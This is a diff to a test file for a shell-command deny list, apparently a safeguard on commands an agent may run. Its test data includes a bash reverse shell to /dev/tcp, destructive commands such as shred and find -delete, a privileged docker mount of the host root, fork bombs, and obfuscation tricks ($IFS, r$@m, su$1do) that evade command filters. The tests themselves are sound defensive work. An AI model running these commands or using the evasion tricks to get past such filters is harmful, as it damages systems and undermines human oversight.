@@ -15,6 +15,7 @@ const refusal = (command: string, patterns: CommandPatterns = none) => checkComm
 describe("normalizeCommand", () => {
   it.each([
     ["RM  -RF   x", "rm -rf x"],
+    ["r$@m -r$*f x$1", "rm -rf x"],
     ["r\\m -rf x", "rm -rf x"],
     ['"rm" -rf x', "rm -rf x"],
     ["'r'm -rf x", "rm -rf x"],
@@ -49,6 +50,13 @@ describe("the default deny list", () => {
     ["mkfs -t ext4 x", "filesystem or partition tools"],
     ["dd if=/dev/zero of=x bs=1M", "dd with if= or of="],
     ["dd bs=1 of=x", "dd with if= or of="],
+    ["find / -name '*.log' -delete", "find -delete"],
+    ["shred -u notes.txt", "shred"],
+    ["crontab evil.cron", "scheduled jobs"],
+    ["systemd-run --user sleep 1000", "scheduled jobs"],
+    ["docker run --privileged -v /:/host alpine", "scheduled jobs, services and containers"],
+    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "network redirection"],
+    ["alias r=rm\nr x", "alias"],
     [":(){ :|:& };:", "fork bomb"],
     ["bomb() { bomb | bomb & }; bomb", "fork bomb"],
     ["sudo ls", "privilege escalation"],
@@ -87,8 +95,12 @@ describe("the default deny list", () => {
     // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell command
     ["echo ${HOME}", "parameter expansion"],
     ["rm$IFS-rf x", "$IFS"],
-    ["$cmd -rf x", "a $variable as the command"],
-    ["ls && $cmd", "a $variable as the command"],
+    ["$cmd -rf x", "a $variable in the command name"],
+    ["ls && $cmd", "a $variable in the command name"],
+    ["ch$xmod 777 x", "a $variable in the command name"],
+    ["r$@m -rf x", "rm with -r/-f"],
+    ["su$1do ls", "privilege escalation"],
+    ["git pu$*sh", "git push"],
     ["cat <<EOF\nhi\nEOF", "heredoc or herestring"],
     ["cat <<< hi", "heredoc or herestring"],
     ["$'\\x72m' -rf x", "ANSI-C or locale quoting"],
@@ -122,6 +134,9 @@ describe("the default deny list", () => {
     "ssh-keygen -l -f key.pub",
     "shasum notes.txt",
     "for f in a b; do echo $f; done",
+    'cd "$HOME" && echo "$PWD"',
+    "find . -name '*.tmp'",
+    "docker ps",
   ])("lets %j through", (command) => {
     expect(refusal(command)).toBeUndefined();
   });
